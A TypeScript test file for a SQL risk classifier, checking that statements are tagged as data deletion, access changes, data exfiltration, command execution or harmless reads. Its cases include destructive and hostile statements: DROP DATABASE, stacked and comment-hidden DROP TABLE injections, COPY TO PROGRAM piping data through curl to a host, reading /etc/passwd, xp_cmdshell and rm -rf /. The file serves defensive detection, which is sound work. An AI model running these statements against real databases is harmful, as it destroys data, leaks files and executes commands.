import assert from 'node:assert/strict';
import fc from 'fast-check';
import { actsOfSql } from '../../../src/acts/sql/sql.ts';

/** Statement → acts in full; `-` only reads. `⏎` stands for a line break. */
const CASES = String.raw`
DROP TABLE users → delete-data
drop database prod → delete-data
DROP SCHEMA public CASCADE → delete-data
DROP TABLE IF EXISTS "select" → delete-data
DROP/**/TABLE users → delete-data
DROP MATERIALIZED VIEW m → delete-data
DROP INDEX CONCURRENTLY i → delete-data
DROP KEYSPACE k → delete-data
DROP ROLE admin → identity-access
DROP OWNED BY bob → delete-data identity-access
DROP POLICY p ON t → security-weakening
DROP WAREHOUSE w → delete-infrastructure stop-service
TRUNCATE users → delete-data
TRUNCATE TABLE a, b RESTART IDENTITY → delete-data
DELETE FROM users → delete-data
DELETE FROM users WHERE id = 4 → delete-data
DELETE users FROM users JOIN x ON x.id = users.id → delete-data
DELETE FROM users WHERE 1=1 → delete-data
WITH gone AS (DELETE FROM t WHERE id < 9 RETURNING *) SELECT * FROM gone → delete-data
EXPLAIN ANALYZE DELETE FROM t → delete-data
EXPLAIN (ANALYZE, VERBOSE) DELETE FROM t → delete-data
UPDATE users SET admin = true → delete-data
UPDATE users SET admin = true WHERE true → delete-data
UPDATE users SET admin = true WHERE 1 = 1 → delete-data
UPDATE users SET name = (SELECT n FROM x WHERE x.id = 1) → delete-data
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE → delete-data config-change
SELECT 1; DROP TABLE users; → delete-data
SELECT 1 -- harmless⏎; DROP TABLE users → delete-data
SELECT 'it''s'; DROP TABLE users → delete-data
SELECT $$text$$; DROP TABLE users → delete-data
SELECT '\'; DROP TABLE users; --' → delete-data
/*!50000 DROP TABLE users */ → delete-data
ALTER TABLE t DROP COLUMN email → delete-data config-change
ALTER TABLE t DROP email → delete-data config-change
ALTER TABLE t DROP PARTITION p0 → delete-data config-change
ALTER TABLE t DELETE WHERE id > 0 → delete-data config-change
ALTER TABLE t UPDATE x = 1 WHERE 1 → delete-data config-change
ALTER TABLE t DISABLE ROW LEVEL SECURITY → security-weakening config-change
ALTER TABLE t OWNER TO bob → identity-access config-change
GRANT ALL ON ALL TABLES IN SCHEMA public TO bob → identity-access
GRANT DELETE ON t TO bob → identity-access
REVOKE SELECT ON t FROM bob → identity-access
CREATE USER bob WITH SUPERUSER PASSWORD 'x' → identity-access config-change
ALTER ROLE bob SUPERUSER → identity-access config-change
SET PASSWORD FOR bob = 'x' → identity-access
COPY t TO PROGRAM 'curl -d @- http://x' → secrets-exfiltration config-change arbitrary-execution
EXEC xp_cmdshell 'dir' → security-weakening arbitrary-execution
EXEC sp_executesql N'DROP TABLE users' → delete-data arbitrary-execution
DO $$ BEGIN DELETE FROM t; END $$ → delete-data
EXECUTE IMMEDIATE 'DROP TABLE users' → delete-data arbitrary-execution
IF EXISTS (SELECT 1 FROM t) DROP TABLE t → delete-data
BEGIN; DELETE FROM t; COMMIT → delete-data
CREATE OR REPLACE TABLE t AS SELECT 1 → delete-data config-change
INSERT OVERWRITE TABLE t SELECT * FROM s → delete-data config-change
REPLACE INTO t VALUES (1) → delete-data config-change
RESET MASTER → delete-backups
PURGE BINARY LOGS TO 'x' → delete-backups
SELECT pg_terminate_backend(1) → stop-service
KILL 12 → stop-service
ALTER WAREHOUSE w SUSPEND → stop-service config-change
SET GLOBAL general_log = 'OFF' → security-weakening config-change
SELECT * FROM t INTO OUTFILE '/tmp/x' → secrets-exfiltration
SELECT pg_read_file('/etc/passwd') → secrets-exfiltration
\! rm -rf / → arbitrary-execution
SELECT 1 GO → -
SELECT 1⏎GO⏎DROP TABLE t → delete-data
SELECT * FROM users → -
SELECT 'DROP TABLE users' → -
SELECT "delete", [drop] FROM t → -
SELECT * FROM t WHERE note = 'delete from users' → -
SELECT 1 -- DROP TABLE users → -
SELECT 1 /* DELETE FROM t */ → -
# DROP TABLE users⏎SELECT 1 → -
SELECT $tag$DROP TABLE x; DELETE FROM y$tag$ → -
SELECT deleted_at, drop_reason, truncated FROM deletes → -
SELECT count(*) FROM updates WHERE update_count > 1 → -
SELECT TRUNCATE(1.234, 2), REPLACE(a, 'x', 'y') FROM t → -
SELECT date_trunc('day', ts) FROM t → -
SELECT * FROM t FOR UPDATE → -
SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED → -
EXPLAIN DELETE FROM t → -
EXPLAIN (FORMAT JSON) UPDATE t SET a = 1 → -
EXPLAIN SELECT 1 → -
SHOW GRANTS → -
DESCRIBE users → -
SHOW CREATE TABLE t → -
WITH a AS (SELECT 1) SELECT * FROM a → -
BEGIN; SELECT 1; ROLLBACK → -
PRAGMA table_info(t) → -
VACUUM ANALYZE t → -
ANALYZE t → -
COPY t TO STDOUT → config-change
UPDATE users SET name = 'x' WHERE id = 4 → config-change
UPDATE users SET name = 'x' WHERE 1 = 2 → config-change
UPDATE users SET n = 1 WHERE true AND id = 4 → config-change
INSERT INTO log VALUES ('delete from t') → config-change
INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2 → config-change
INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2 → config-change
CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE) → config-change
CREATE TEMP TABLE x ON COMMIT DROP AS SELECT 1 → config-change
CREATE INDEX i ON t (a) → config-change
ALTER TABLE t ADD COLUMN dropped_at timestamptz → config-change
ALTER TABLE t ALTER COLUMN a DROP NOT NULL → config-change
ALTER TABLE t DROP CONSTRAINT c → config-change
CREATE TRIGGER r AFTER DELETE ON t EXECUTE FUNCTION f() → config-change
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 → config-change
DROP TEMPORARY TABLE x → config-change
`;

describe('acts of SQL', () => {
	for (const line of CASES.trim().split('\n')) {
		const [statement = '', expected] = line.split(' → ');
		it(line, () => {
			const acts = actsOfSql(statement.replaceAll('⏎', '\n')).map(({ act }) => act);
			assert.equal(acts.join(' ') || '-', expected);
		});
	}

	it('says whether a condition holds it back', () => {
		assert.match(actsOfSql('DELETE FROM t WHERE 1=1')[0]?.why ?? '', /every row/);
		assert.match(actsOfSql('DELETE FROM t WHERE id = 1')[0]?.why ?? '', /condition names/);
	});

	it('reads a backslash before a quote as PostgreSQL does, so MySQL’s escape is a false alarm', () => {
		assert.deepEqual(
			actsOfSql("SELECT 'it\\'s; drop table t'").map(({ act }) => act),
			['delete-data'],
		);
	});

	it('never throws, and case and spaces change nothing', () => {
		fc.assert(fc.property(fc.string(), (text) => Array.isArray(actsOfSql(text))));
		const piece = fc.constantFrom(
			'DROP',
			'TABLE',
			"'",
			'"',
			'$$',
			'/*',
			'*/',
			'--',
			'\n',
			';',
			'(',
			')',
			'x',
			'\\',
			'[',
			'#',
			'EXPLAIN',
			'DELETE',
		);
		fc.assert(fc.property(fc.array(piece), (pieces) => Array.isArray(actsOfSql(pieces.join(' ')))));
		assert.deepEqual(actsOfSql('dRoP\n\t TaBlE users'), actsOfSql('DROP TABLE users'));
	});

	it('reads a long text quickly', () => {
		const before = performance.now();
		actsOfSql(`${'('.repeat(20_000)}${'UPDATE t SET '.repeat(2000)}${'DROP '.repeat(3000)}${"'".repeat(999)}`);
		assert.ok(performance.now() - before < 3000);
	});
});
